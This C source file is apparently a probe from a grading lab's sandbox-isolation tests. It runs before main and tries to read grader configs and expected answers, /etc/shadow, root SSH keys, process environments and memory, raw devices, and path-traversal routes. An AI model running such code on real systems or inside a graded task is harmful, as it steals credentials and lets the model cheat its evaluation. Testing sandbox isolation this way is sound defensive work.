// Looks into every place where something may lie that is not its own, as soon as it is started.
#include "attack.h"

static const char *PLACES[] = {
    HOST_SECRET, HOST_OTHER, HOST_GRADER "/lab.toml", HOST_GRADER "/checks/chat_lines.py",
    HOST_GRADER "/samples/forger/expected.toml", HOST_FOLDER, HOST_RESULTS "/000-honest/result.json",
    "/run/grader/lab.toml", "/run/grader/checks/chat_lines.py", "/run/out/part_a.jsonl",
    "/run/sub/part_a/server.c", "/run/cache", "/etc/shadow", "/etc/gshadow", "/root/.bashrc",
    "/root/.ssh/id_rsa", "/proc/kcore", "/proc/1/environ", "/proc/1/mem",
    "/proc/1/root/etc/shadow", "/proc/1/cwd/lab.toml", "/proc/1/fd/0", "/dev/mem", "/dev/kmsg",
    "/dev/sda", "/dev/vda", "/proc/" HOST_PID "/environ", "/proc/" HOST_PID "/mem",
    "/proc/" HOST_PID "/root/etc/shadow", "/proc/" HOST_PID "/fd/1", "/sys/kernel/notes",
    "../../../lab.toml", "/work/../run/grader/lab.toml", "/var/lib/proactor-lab/1/work",
};

BEFORE_MAIN look(void)
{
    int places = sizeof PLACES / sizeof *PLACES, got = 0;
    for (int i = 0; i < places; i++)
        got += loot(PLACES[i]);
    for (int pid = 1; pid < 400; pid++) {
        static const char *files[] = {"environ", "mem", "maps", "root/etc/shadow", "cwd/lab.toml"};
        for (int i = 0; i < 5 && pid != getpid(); i++) {
            char path[100];
            snprintf(path, sizeof path, "/proc/%d/%s", pid, files[i]);
            got += loot(path);
        }
    }
    if (getenv("LAB_SECRET"))
        tell("LOOT environment\n");
    tell("looked at %d places, %d read\n", places, got);
}
